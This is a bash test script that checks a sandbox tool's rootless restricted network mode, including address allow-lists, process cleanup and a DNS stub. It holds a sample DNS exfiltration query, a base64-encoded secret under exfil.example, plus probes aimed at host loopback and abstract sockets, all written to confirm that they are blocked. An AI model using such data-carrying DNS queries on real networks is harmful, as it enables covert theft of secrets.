#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Network mode restricted without root (the router in the library's own
# user namespace, pasta as its uplink), end to end as uid 65534. The test
# (root) makes two network namespaces of its own:
#   GW   where the unprivileged caller runs: pasta's "host". One veth
#        (192.0.2.1/24, 2001:db8:ff::1/64) with the default routes.
#   NET  the fake internet behind it: 192.0.2.2, 2001:db8:ff::2 and, on its
#        loopback, 198.51.100.1-2 and 2001:db8::1-2, with TCP and UDP echo
#        servers this test starts.
# No packet goes anywhere else. Both are removed at the end (trap).
#
#   test-net-rootless.sh FORGEYARD FY-NETPROBE ECHO-SERVER.PY [TEST-NET-THREAD]
set -u
FY=$1 PROBE=$2 ECHO=$3 THREAD=${4:-}
if [ "$(id -u)" != 0 ]; then echo "SKIP: the test makes network namespaces and switches to uid 65534 (root)"; exit 77; fi
command -v nft >/dev/null || { echo "SKIP: nft missing (apt install nftables)"; exit 77; }
command -v pasta >/dev/null || { echo "SKIP: pasta missing (apt install passt)"; exit 77; }
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
setpriv --reuid 65534 --regid 65534 --clear-groups test -x "$FY" 2>/dev/null ||
    { echo "SKIP: uid 65534 cannot execute $FY"; exit 77; }

GW=fyt-rl-gw-$$-$RANDOM NET=fyt-rl-net-$$-$RANDOM
. "$(dirname "$0")/lib.sh"
net_init fy-netrl
DNS=
net_cleanup_extra() { [ -n "$DNS" ] && kill "$DNS" 2>/dev/null && wait "$DNS" 2>/dev/null; }

net_netns "$GW"
ip -n "$GW" link add g0 type veth peer name n0 || exit 1
net_fake_internet "$NET" "$ECHO" 32 128
ip -n "$GW" link set n0 netns "$NET" || exit 1
ip -n "$GW" addr add 192.0.2.1/24 dev g0
ip -n "$GW" addr add 2001:db8:ff::1/64 dev g0 nodad
ip -n "$NET" addr add 192.0.2.2/24 dev n0
ip -n "$NET" addr add 2001:db8:ff::2/64 dev n0 nodad
ip -n "$GW" link set g0 up
ip -n "$NET" link set n0 up
ip -n "$GW" route add default via 192.0.2.2 dev g0
ip -n "$GW" -6 route add default via 2001:db8:ff::2 dev g0
# (From GW the fake internet must answer, or nothing below means anything.)
ip netns exec "$GW" python3 -c '
import socket; s = socket.create_connection(("198.51.100.1", 8080), 3); s.send(b"hi"); assert s.recv(16) == b"echo:hi"' ||
    { echo "the fake internet does not answer from the caller's namespace"; exit 1; }

gw_state() {
    ip -n "$GW" -o link show | awk -F': ' '{print $2}' | sed 's/@.*//' | sort
    # (fe80:: comes and goes with the veth's own address configuration.)
    ip -n "$GW" route show table all | grep -v fe80 | sort
    ip -n "$GW" -6 route show table all | grep -v fe80 | sort
    ip -n "$GW" addr show | grep -c inet
    ip netns exec "$GW" nft list ruleset 2>&1
}
gw_state >"$TMP/gw.before"
nothing_left() {
    gw_state >"$TMP/gw.after"
    # Our pastas: processes named pasta or passt* (it may execute
    # passt.avx2) of uid 65534 in the GW namespace.
    local pastas=0
    for p in $(pgrep -u 65534 '^pas(ta|st)' 2>/dev/null); do
        [ "$(readlink /proc/$p/ns/net 2>/dev/null)" = "$(ip netns exec "$GW" readlink /proc/self/ns/net)" ] &&
            pastas=$((pastas + 1))
    done
    if ! nothing_left_cmp "$1" "the caller's namespace" "$TMP/gw.before" "$TMP/gw.after"; then
        :
    elif [ $pastas != 0 ]; then
        bad "$1: $pastas pasta process(es) left"
    else
        ok "$1: nothing left (no pasta, no link, route, rule or address in the caller's namespace)"
    fi
}

mkdir "$TMP/nobody" && chown 65534:65534 "$TMP/nobody"
mkdir "$TMP/probe" && cp "$PROBE" "$TMP/probe/fy-netprobe" && chmod 755 "$TMP" "$TMP/probe"
chmod 644 "$TMP/probe/"* 2>/dev/null; chmod 755 "$TMP/probe/fy-netprobe"
run() {
    ip netns exec "$GW" env HOME=/tmp setpriv --reuid 65534 --regid 65534 --clear-groups \
        timeout 120 "$FY" run --profile standard-ci --network restricted \
        --bind-ro "$TMP/probe:/opt/fyprobe" "$@"
}

# 1. The probes: the allowed tuples answer, nothing else does.
net_probes "$TMP/probe/probes.sh" 't gateway-icmp icmp 192.0.2.2' 't router-itself tcp 100.64.0.1 8080' 't router6-itself tcp fd66:7973::1 8080'
chmod 644 "$TMP/probe/probes.sh"
run --allow 198.51.100.1:8080 --allow 198.51.100.1:9090/udp --allow '[2001:db8::1]:8080' \
    --allow 198.51.100.2:9090 --result "$TMP/nobody/result.json" -- /bin/sh /opt/fyprobe/probes.sh \
    >"$TMP/out" 2>"$TMP/err"
rc=$?
[ $rc = 0 ] || { bad "probe sandbox exited $rc"; cat "$TMP/err"; }
while read -r name res; do
    case $name in
    *-allowed) [ "$res" = 0 ] && ok "$name answers" || { bad "$name: no answer (rc $res)"; grep "^$name:" "$TMP/err"; };;
    *) [ "$res" = 1 ] && ok "$name blocked" || bad "$name: expected blocked, got rc $res";;
    esac
done <"$TMP/out"
[ "$(wc -l <"$TMP/out")" = 16 ] || { bad "expected 16 probe results, got $(wc -l <"$TMP/out")"; cat "$TMP/err"; }
nothing_left "probe sandbox"

# 2. The evidence: the mechanism in the plan's isolation record, pasta
#    ended (reaped) and the router's links witnessed gone in the result.
python3 - "$TMP/nobody/result.json" <<'PY' && ok "evidence: mechanism nftables-userns-pasta, pasta reaped, no router link left" || bad "evidence"
import json, sys
r = json.load(open(sys.argv[1]))
def find(o, key):
    if isinstance(o, dict):
        for k, v in o.items():
            if k == key:
                yield v
            yield from find(v, key)
    elif isinstance(o, list):
        for v in o:
            yield from find(v, key)
mech = list(find(r, "mechanism"))
assert "nftables-userns-pasta" in mech, mech
net = r["network"]
assert net["uplink"]["ended"] is True and isinstance(net["uplink"]["pid"], int), net
assert net["uplink"]["end"] == "killed at cleanup", net
assert net["router_links_left"] == 0, net
assert net["packets_out"] > 0 and net["packets_in"] > 0, net
left = list(find(r, "network_left")) + list(find(r, "left"))
print("network:", json.dumps(net), file=sys.stderr)
PY
pid=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["network"]["uplink"]["pid"])' "$TMP/nobody/result.json" 2>/dev/null)
[ -n "$pid" ] && [ ! -e "/proc/$pid" ] && ok "pasta (pid $pid) is gone" || bad "pasta $pid still exists"

# 3. A workload that rewrites its own addresses and routes reaches nothing
#    more (the rules are in the router, whose user namespace is not its own).
cat >"$TMP/probe/rewire.sh" <<'IN'
ip addr add 198.51.100.9/32 dev eth0 2>/dev/null
ip route replace default dev eth0 2>/dev/null
/opt/fyprobe/fy-netprobe tcp 198.51.100.2 8080 >/dev/null 2>&1 && echo reached || echo blocked
IN
chmod 644 "$TMP/probe/rewire.sh"
out=$(run --allow 198.51.100.1:8080 -- /bin/sh /opt/fyprobe/rewire.sh 2>/dev/null)
[ "$out" = blocked ] && ok "a workload rewiring its own namespace reaches nothing more" || bad "rewire: $out"
nothing_left "rewire sandbox"

# 4. Bad input: an uplink namespace is root's (pasta uplinks the caller's own).
out=$(run --network-uplink "/run/netns/$GW" --allow 198.51.100.1:8080 -- /bin/true 2>&1); st=$?
[ $st != 0 ] && echo "$out" | grep -q "needs root" && ok "an uplink namespace without root is refused" ||
    bad "uplink without root: status $st: $out"

# 5. Several attempts in a row and side by side leave nothing.
for i in 1 2 3 4 5; do
    run --allow 198.51.100.1:8080 -- /opt/fyprobe/fy-netprobe tcp 198.51.100.1 8080 >/dev/null 2>&1 || bad "attempt $i: no answer"
done
pids=
for i in 1 2 3 4; do
    run --allow 198.51.100.1:8080 -- /opt/fyprobe/fy-netprobe tcp 198.51.100.1 8080 >/dev/null 2>&1 &
    pids="$pids $!"
done
for p in $pids; do wait "$p" || bad "a concurrent attempt failed"; done
nothing_left "9 attempts (5 in a row, 4 at once)"

# 5b. The attack suite's network probes under rootless restricted: the
#     caller's loopback listeners and abstract unix sockets (in GW, where
#     pasta runs) stay out of reach, allowed port or not.
ip netns exec "$GW" python3 -c '
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(4)
u = socket.socket(socket.AF_UNIX); u.bind("\0fyt-rl-abstract"); u.listen(4)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
s.settimeout(20); u.settimeout(0.1)
import select
r, _, _ = select.select([s, u], [], [], 20)
if r: open(sys.argv[1] + ".hit", "w").write("x")
' "$TMP/hostport" &
HL=$!
for _ in $(seq 50); do [ -s "$TMP/hostport" ] && break; sleep 0.1; done
hp=$(cat "$TMP/hostport")
run --allow "198.51.100.1:$hp" -- /bin/sh -c "/opt/fyprobe/fy-netprobe tcp 127.0.0.1 $hp; echo tcp=\$?;
    /opt/fyprobe/fy-netprobe tcp 192.0.2.1 $hp; echo gw=\$?; /opt/fyprobe/fy-netprobe abstract fyt-rl-abstract; echo abstract=\$?" \
    >"$TMP/att" 2>&1
kill $HL 2>/dev/null; wait $HL 2>/dev/null
grep -q "tcp=1" "$TMP/att" && grep -q "gw=1" "$TMP/att" && grep -q "abstract=1" "$TMP/att" && [ ! -e "$TMP/hostport.hit" ] &&
    ok "the caller's loopback, its own address and its abstract sockets are out of reach" ||
    { bad "attack probes: $(tr '\n' ' ' <"$TMP/att") hit=$([ -e "$TMP/hostport.hit" ] && echo yes)"; }
nothing_left "attack probes"

# 6. pasta is in the attempt's state record (fy_gc's), and a host process
#    killed mid-attempt takes it along (it dies with the thread that
#    started it).
mkdir -p "$TMP/nobody/xdg" && chown 65534:65534 "$TMP/nobody/xdg" && chmod 700 "$TMP/nobody/xdg"
ip netns exec "$GW" env HOME=/tmp XDG_RUNTIME_DIR="$TMP/nobody/xdg" setpriv --reuid 65534 --regid 65534 --clear-groups \
    "$FY" run --profile standard-ci --network restricted --allow 198.51.100.1:8080 -- /bin/sleep 30 >/dev/null 2>&1 &
FYP=$!
hp=
for _ in $(seq 100); do
    hp=$(cat "$TMP"/nobody/xdg/forgeyard-sandbox/*.state 2>/dev/null | awk '$1 == "helper" {print $2}' | head -1)
    [ -n "$hp" ] && break; sleep 0.1
done
if [ -n "$hp" ] && case $(cat /proc/$hp/comm 2>/dev/null) in pasta*|passt*) true;; *) false;; esac; then
    ok "pasta (pid $hp) is in the attempt's state record"
    kill -9 "$(awk '{print $4}' /proc/$hp/stat)" 2>/dev/null
    for _ in $(seq 50); do [ -e "/proc/$hp" ] || break; sleep 0.1; done
    [ -e "/proc/$hp" ] && bad "pasta $hp survived its host process" || ok "a killed host process takes its pasta along"
else
    bad "no pasta in the state record (helper '$hp': $(cat /proc/$hp/comm 2>&1) $(tr "\0" " " </proc/$hp/cmdline 2>&1))"
fi
wait $FYP 2>/dev/null
sleep 0.5
nothing_left "host process killed mid-attempt"

# 7. The DNS stub: the allowed name resolves (A and AAAA, also through the
#    C library), a name carrying data gets REFUSED from the stub and no
#    answer from anywhere else, and the fake internet's DNS server (a UDP
#    listener on 198.51.100.1:53 and [2001:db8::1]:53) never sees a query.
printf '198.51.100.1 mirror.test\n2001:db8::1 mirror.test\n' >"$TMP/nobody/hosts"
chmod 644 "$TMP/nobody/hosts"
ip netns exec "$NET" python3 -c '
import socket, select, sys
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("198.51.100.1", 53))
b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); b.bind(("2001:db8::1", 53))
open(sys.argv[1] + ".up", "w").write("x")
while True:
    r, _, _ = select.select([a, b], [], [], 60)
    if not r: break
    for s in r:
        d, _ = s.recvfrom(2048); open(sys.argv[1], "ab").write(d + b"\n")
' "$TMP/dnslog" &
DNS=$!
for _ in $(seq 50); do [ -e "$TMP/dnslog.up" ] && break; sleep 0.1; done
X=aGVsbG8td29ybGQtc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.exfil.example
cat >"$TMP/probe/dns.sh" <<IN
P=/opt/fyprobe/fy-netprobe
echo "a \$(\$P dnsq 127.0.0.53 mirror.test 1)"
echo "aaaa \$(\$P dnsq 127.0.0.53 mirror.test 28)"
echo "exfil \$(\$P dnsq 127.0.0.53 $X 1)"
echo "exfil-direct \$(\$P dnsq 198.51.100.1 $X 1)"
echo "libc \$(\$P resolve mirror.test)"
getent hosts $X >/dev/null 2>&1; echo "getent-exfil \$?"
cat /etc/resolv.conf | grep nameserver
IN
chmod 644 "$TMP/probe/dns.sh"
run --network-hosts "$TMP/nobody/hosts" --allow mirror.test:8080 --result "$TMP/nobody/dns.json" \
    -- /bin/sh /opt/fyprobe/dns.sh >"$TMP/dns.out" 2>&1
sleep 0.3
kill $DNS 2>/dev/null; wait $DNS 2>/dev/null; DNS=
grep -qx "a rcode=0 an=1 198.51.100.1" "$TMP/dns.out" && grep -qx "aaaa rcode=0 an=1 2001:db8::1" "$TMP/dns.out" &&
    grep -qx "libc 198.51.100.1" "$TMP/dns.out" && ok "the stub answers the allowed name (A, AAAA)" ||
    { bad "the allowed name"; cat "$TMP/dns.out"; }
grep -qx "exfil rcode=5 an=0" "$TMP/dns.out" && grep -qx "exfil-direct no answer" "$TMP/dns.out" &&
    grep -qx "getent-exfil 2" "$TMP/dns.out" && ok "a name carrying data is refused by the stub and unanswered elsewhere" ||
    { bad "the exfil name"; cat "$TMP/dns.out"; }
grep -qx "nameserver 127.0.0.53" "$TMP/dns.out" && ok "resolv.conf names only the stub" || bad "resolv.conf: $(cat "$TMP/dns.out")"
[ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a query" ||
    bad "the fake internet's DNS server got: $(cat -v "$TMP/dnslog")"
python3 - "$TMP/nobody/dns.json" "$X" <<'PY' && ok "the result's network.dns: the stub reaped, confined, every query recorded" || bad "network.dns"
import json, sys
r = json.load(open(sys.argv[1]))
d = r["network"]["dns"]
assert d["ended"] is True and "seccomp-allowlist" in d["confinement"] and "no-new-privileges" in d["confinement"], d
q = d["queries"]
names = {(x["host"], x["decision"]) for x in q}
assert ("mirror.test", "allowed") in names, q
assert (sys.argv[2].lower(), "refused") in names, q
assert all(x["rcode"] == 5 for x in q if x["decision"] == "refused"), q
# the query's own fields: its type (A 1, AAAA 28), the answer's rcode (0: NOERROR); none of HTTP's
al = [x for x in q if x["decision"] == "allowed" and x["host"] == "mirror.test"]
assert al and all(x["qtype"] in (1, 28) and x["rcode"] == 0 for x in al), q
assert not any(k in x for x in q for k in ("port", "status", "tls_server_name", "credential_injected")), q
iso = json.dumps(r)
assert "127.0.0.53 answers only" in iso, "the dns mode is not in the evidence"
PY
nothing_left "dns"

# 7b. fy_gc kills a recorded helper (an orphaned pasta: here a stand-in
#     process of the caller's) when it is still that process, and leaves a
#     process alone whose start time differs (a reused pid).
GCD="$TMP/nobody/gc" && mkdir -p "$GCD" && chown 65534:65534 "$GCD" && chmod 700 "$GCD"
setpriv --reuid 65534 --regid 65534 --clear-groups sleep 300 & S1=$!
setpriv --reuid 65534 --regid 65534 --clear-groups sleep 300 & S2=$!
# (both are sleep, and uid 65534's, before gc looks: bounded, 10 s)
for _ in $(seq 100); do
    [ "$(cat /proc/$S1/comm /proc/$S2/comm 2>/dev/null)" = "sleep
sleep" ] && [ "$(stat -c %u /proc/$S1 /proc/$S2 | sort -u)" = 65534 ] && break
    sleep 0.1
done
st1=$(cut -d')' -f2 /proc/$S1/stat | awk '{print $20}')
printf 'forgeyard-state 1\nowner 1 1\nsandbox 0 0\nhelper %s %s\nhelper %s %s\n' "$S1" "$st1" "$S2" 12345 \
    >"$GCD/forgeyard-test.state"
chown 65534:65534 "$GCD/forgeyard-test.state"
setpriv --reuid 65534 --regid 65534 --clear-groups "$FY" gc --state-dir "$GCD" >/dev/null 2>&1
s1_gone() { [ ! -e "/proc/$S1/stat" ] || [ "$(awk '{print $3}' /proc/$S1/stat 2>/dev/null)" = Z ]; }
# (the kill is sent; its end is looked for, bounded: 5 s)
for _ in $(seq 50); do s1_gone && break; sleep 0.1; done
if s1_gone; then
    [ -e "/proc/$S2" ] && ok "fy_gc kills a recorded helper, and only the recorded process" ||
        bad "fy_gc killed a process whose start time differs"
else
    bad "fy_gc left the recorded helper $S1 running"
fi
kill $S1 $S2 2>/dev/null; wait $S1 $S2 2>/dev/null

# 8. Through the API, started from a thread that ends at once: the network
#    outlives it (pasta is not the starting thread's child) and pasta's
#    end is witnessed at cleanup.
if [ -n "$THREAD" ]; then
    out=$(ip netns exec "$GW" env HOME=/tmp setpriv --reuid 65534 --regid 65534 --clear-groups \
        timeout 120 "$THREAD" "$TMP/probe" 2>&1); st=$?
    [ $st = 0 ] && ok "an attempt started from a thread that ended keeps its network; pasta reaped at cleanup" ||
        bad "started from a short-lived thread: status $st: $out"
    nothing_left "API attempt from a short-lived thread"
fi

exit $fail
